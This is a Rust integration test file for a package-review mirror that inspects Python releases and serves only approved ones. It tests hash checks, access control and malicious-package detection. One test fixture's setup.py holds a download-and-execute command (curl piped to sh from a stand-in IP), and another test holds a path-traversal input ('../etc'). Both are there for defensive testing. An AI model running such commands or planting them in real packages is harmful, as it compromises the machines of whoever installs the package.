//! End to end: a release is requested, mirrored from a local upstream,
//! inspected, approved, and installed by a real pip from Airlock's index;
//! and the ways that must fail, fail.

mod support;

use airlock_store::testdb::TestDb;
use support::airlock::{pip_install, Airlock};
use support::fixtures::{sha256_hex, Package};
use support::upstream::{LocalUpstream, UpstreamFile, UpstreamOptions};

fn demo_upstream() -> (LocalUpstream, Vec<(String, Vec<u8>)>) {
    let v1 = Package::new("airlock-demo", "1.0.0");
    let v2 = Package::new("airlock-demo", "2.0.0");
    let dists = vec![v1.wheel(), v1.sdist(), v2.wheel(), v2.sdist()];
    let files = dists.iter().cloned().map(|d| UpstreamFile::new("airlock-demo", d)).collect();
    (LocalUpstream::start(files), dists)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_approved_release_installs_with_real_pip_and_an_unapproved_one_does_not() {
    request_review_approve_install(TestDb::sqlite()).await;
}

/// The same story with PostgreSQL as Airlock's database (CI sets AIRLOCK_TEST_POSTGRES).
#[tokio::test(flavor = "multi_thread")]
async fn the_whole_story_also_runs_on_postgres() {
    match TestDb::postgres() {
        Some(db) => request_review_approve_install(db).await,
        None => eprintln!("AIRLOCK_TEST_POSTGRES is not set; the PostgreSQL run is skipped"),
    }
}

async fn request_review_approve_install(db: TestDb) {
    let (upstream, dists) = demo_upstream();
    let mut airlock = Airlock::on(Some(db));
    // The story reviews the sdist's setup.py too: keep sdists even where the wheel fits.
    airlock.set_config(&[("mirror_sdists", "\"always\"")]);
    let auditor = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));

    // Request over the API; it mirrors and is inspected.
    let resp = airlock.request(&auditor, "Airlock_Demo==1.0.0").await;
    assert_eq!(resp.status(), 202);
    let release = airlock.wait_for(&auditor, "airlock-demo", "1.0.0", &["awaiting_review", "failed"]).await;
    assert_eq!(release["status"], "awaiting_review", "{release}");

    // Both files were stored with the upstream's hashes.
    let files = release["files"].as_array().unwrap();
    assert_eq!(files.len(), 2, "{release}");
    for (name, bytes) in &dists[..2] {
        let f = files.iter().find(|f| f["filename"] == name.as_str()).unwrap_or_else(|| panic!("{name} missing"));
        assert_eq!(f["sha256"], sha256_hex(bytes));
        assert_eq!(f["inspected"], true);
    }
    // The sdist's setup.py is a finding.
    let findings = release["findings"].as_array().unwrap();
    assert!(findings.iter().any(|f| f["rule"] == "install-hook/setup-py"), "{release}");
    assert_eq!(release["metadata"]["name"], "airlock-demo");
    let caps: Vec<&str> = release["capabilities"].as_array().unwrap().iter().filter_map(|c| c.as_str()).collect();
    assert_eq!(caps, ["install-hooks"], "the sdist's setup.py is the release's only capability: {release}");

    // Not yet approved: not in the index, and pip cannot install it.
    let target = tempfile::tempdir().unwrap();
    let pip = pip_install(&airlock.simple_url(), target.path(), &["airlock-demo==1.0.0"]);
    assert!(!pip.success, "pip installed an unapproved release:\n{}", pip.output);
    let wheel_sha = sha256_hex(&dists[0].1);
    let direct = airlock.http.get(airlock.url(&format!("/files/{wheel_sha}/{}", dists[0].0))).send().await.unwrap();
    assert_eq!(direct.status(), 404, "an unapproved file was served directly");

    // Approve; now pip installs it, from Airlock only.
    let resp = airlock.decide(&auditor, "airlock-demo", "1.0.0", "approve", "reviewed: plain module").await;
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    let pip = pip_install(&airlock.simple_url(), target.path(), &["airlock-demo==1.0.0"]);
    assert!(pip.success, "pip failed:\n{}\n{}", pip.output, airlock.log());
    let module = std::fs::read_to_string(target.path().join("airlock_demo/__init__.py")).unwrap();
    assert!(module.contains("__version__ = \"1.0.0\""), "{module}");

    // Hash-pinned install, as an organization would pin.
    let reqs = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(reqs.path(), format!("airlock-demo==1.0.0 --hash=sha256:{} --hash=sha256:{}\n", wheel_sha, sha256_hex(&dists[1].1))).unwrap();
    let target2 = tempfile::tempdir().unwrap();
    let reqs_path = reqs.path().to_str().unwrap();
    let pip = pip_install(&airlock.simple_url(), target2.path(), &["--require-hashes", "-r", reqs_path]);
    assert!(pip.success, "pip --require-hashes failed:\n{}", pip.output);

    // A wrong pin is refused by pip: Airlock serves exactly the approved bytes.
    std::fs::write(reqs.path(), format!("airlock-demo==1.0.0 --hash=sha256:{}\n", "0".repeat(64))).unwrap();
    let pip = pip_install(&airlock.simple_url(), tempfile::tempdir().unwrap().path(), &["--require-hashes", "-r", reqs_path]);
    assert!(!pip.success, "pip accepted a wrong hash pin");

    // Version 2.0.0 is requested and awaits review: still not installable.
    airlock.request(&auditor, "airlock-demo==2.0.0").await;
    airlock.wait_for(&auditor, "airlock-demo", "2.0.0", &["awaiting_review"]).await;
    let pip = pip_install(&airlock.simple_url(), tempfile::tempdir().unwrap().path(), &["airlock-demo==2.0.0"]);
    assert!(!pip.success, "pip installed unapproved 2.0.0:\n{}", pip.output);
    let page = airlock.http.get(airlock.url("/simple/airlock-demo/")).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("airlock_demo-1.0.0-py3-none-any.whl") && !page.contains("2.0.0"), "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_upstream_hash_fails_the_release_and_stores_nothing() {
    let pkg = Package::new("tampered", "1.0");
    let (name, bytes) = pkg.wheel();
    let mut file = UpstreamFile::new("tampered", (name, bytes.clone()));
    file.advertised_sha256 = Some("ab".repeat(32));
    let upstream = LocalUpstream::start(vec![file]);
    let mut airlock = Airlock::new();
    let token = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));

    airlock.request(&token, "tampered==1.0").await;
    let release = airlock.wait_for(&token, "tampered", "1.0", &["failed", "awaiting_review"]).await;
    assert_eq!(release["status"], "failed", "{release}");
    let error = release["error"].as_str().unwrap_or("");
    assert!(error.contains("sha256 mismatch"), "error should name the mismatch: {error}");
    assert!(release["files"].as_array().unwrap().is_empty(), "a mismatched file was recorded");
    let sha = sha256_hex(&bytes);
    let blob = airlock.data_path().join("blobs").join(&sha[..2]).join(&sha[2..4]).join(&sha);
    assert!(!blob.exists(), "a mismatched file was stored");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_html_only_upstream_is_mirrored_through_the_pep_503_fallback() {
    let pkg = Package::new("html-only", "0.3");
    let upstream = LocalUpstream::start_with(vec![UpstreamFile::new("html-only", pkg.wheel())], UpstreamOptions { json: false, html: true });
    let mut airlock = Airlock::new();
    let token = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    airlock.request(&token, "html-only==0.3").await;
    let release = airlock.wait_for(&token, "html-only", "0.3", &["awaiting_review", "failed"]).await;
    assert_eq!(release["status"], "awaiting_review", "{release}");
    assert_eq!(release["files"][0]["filename"], "html_only-0.3-py3-none-any.whl");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_an_upstream_mirroring_fails_clearly_and_the_rest_runs() {
    let mut airlock = Airlock::new();
    let token = airlock.user_with_token("alice", "auditor");
    airlock.serve(None);
    let resp = airlock.request(&token, "anything==1.0").await;
    assert_eq!(resp.status(), 202);
    let release = airlock.wait_for(&token, "anything", "1.0", &["failed"]).await;
    assert!(release["error"].as_str().unwrap().contains("no upstream index is configured"), "{release}");
    let index = airlock.http.get(airlock.simple_url()).send().await.unwrap();
    assert_eq!(index.status(), 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_api_refuses_missing_tokens_viewers_deciding_and_bad_input() {
    let (upstream, _) = demo_upstream();
    let mut airlock = Airlock::new();
    let viewer = airlock.user_with_token("victor", "viewer");
    let auditor = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));

    let anonymous = airlock.http.post(airlock.url("/api/v1/requests")).json(&serde_json::json!({"requirement": "x==1"})).send().await.unwrap();
    assert_eq!(anonymous.status(), 401);
    let forged = airlock.request("airlock_forged", "x==1").await;
    assert_eq!(forged.status(), 401);
    for bad in ["airlock-demo", "airlock-demo>=1", "../etc==1", "x==not-a-version"] {
        let resp = airlock.request(&viewer, bad).await;
        assert_eq!(resp.status(), 400, "{bad} should be refused");
        let body: serde_json::Value = resp.json().await.unwrap();
        assert!(body["error"].as_str().is_some_and(|e| !e.is_empty()), "{body}");
    }

    assert_eq!(airlock.request(&viewer, "airlock-demo==1.0.0").await.status(), 202);
    airlock.wait_for(&viewer, "airlock-demo", "1.0.0", &["awaiting_review"]).await;
    let resp = airlock.decide(&viewer, "airlock-demo", "1.0.0", "approve", "lgtm").await;
    assert_eq!(resp.status(), 403, "a viewer decided");
    let resp = airlock.decide(&auditor, "airlock-demo", "1.0.0", "approve", "   ").await;
    assert_eq!(resp.status(), 400, "a decision without a comment was accepted");
    let resp = airlock.decide(&auditor, "airlock-demo", "1.0.0", "reject", "not needed").await;
    assert_eq!(resp.status(), 200);
    let resp = airlock.decide(&auditor, "airlock-demo", "1.0.0", "approve", "changed my mind").await;
    assert_eq!(resp.status(), 409, "a decided release was decided again");
    let release = airlock.release(&viewer, "airlock-demo", "1.0.0").await;
    assert_eq!(release["status"], "rejected");
    assert_eq!(release["decisions"][0]["user"], "alice");
    // The wheel fits every target, so the sdist was not mirrored: one file decided.
    assert_eq!(release["decisions"][0]["sha256s"].as_array().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_malicious_install_script_is_flagged_critical_at_its_line() {
    let evil = Package::new("helpful-utils", "0.1")
        .with_setup_py("import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nfrom setuptools import setup\nsetup()\n");
    let upstream = LocalUpstream::start(vec![UpstreamFile::new("helpful-utils", evil.sdist())]);
    let mut airlock = Airlock::new();
    let token = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    airlock.request(&token, "helpful-utils==0.1").await;
    let release = airlock.wait_for(&token, "helpful-utils", "0.1", &["awaiting_review", "failed"]).await;
    assert_eq!(release["status"], "awaiting_review", "{release}");
    assert_eq!(release["max_severity"], "critical", "{release}");
    let findings = release["findings"].as_array().unwrap();
    let shell = findings.iter().find(|f| f["rule"] == "payload/shell-download").unwrap_or_else(|| panic!("{release}"));
    assert_eq!(shell["line"], 2);
    assert_eq!(shell["file"], "helpful_utils-0.1/setup.py");
    assert!(shell["snippet"].as_str().unwrap().contains("curl -s http://203.0.113.7/x.sh | sh"));
    let caps: Vec<&str> = release["capabilities"].as_array().unwrap().iter().filter_map(|c| c.as_str()).collect();
    assert!(caps.contains(&"subprocess"), "{caps:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn code_only_in_the_wheel_is_reported_against_the_sdist() {
    let pkg = Package::new("two-faced", "1.0").with_wheel_file("two_faced/_telemetry.py", "import os\n");
    let upstream = LocalUpstream::start(vec![UpstreamFile::new("two-faced", pkg.wheel()), UpstreamFile::new("two-faced", pkg.sdist())]);
    let mut airlock = Airlock::new();
    // The comparison needs both: an organization that wants it keeps sdists always.
    airlock.set_config(&[("mirror_sdists", "\"always\"")]);
    let token = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    airlock.request(&token, "two-faced==1.0").await;
    let release = airlock.wait_for(&token, "two-faced", "1.0", &["awaiting_review", "failed"]).await;
    let mismatch: Vec<&serde_json::Value> = release["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "metadata/wheel-sdist-mismatch").collect();
    assert_eq!(mismatch.len(), 1, "{release}");
    assert_eq!(mismatch[0]["file"], "two_faced/_telemetry.py");
    assert_eq!(mismatch[0]["distribution"], "two_faced-1.0-py3-none-any.whl");
}
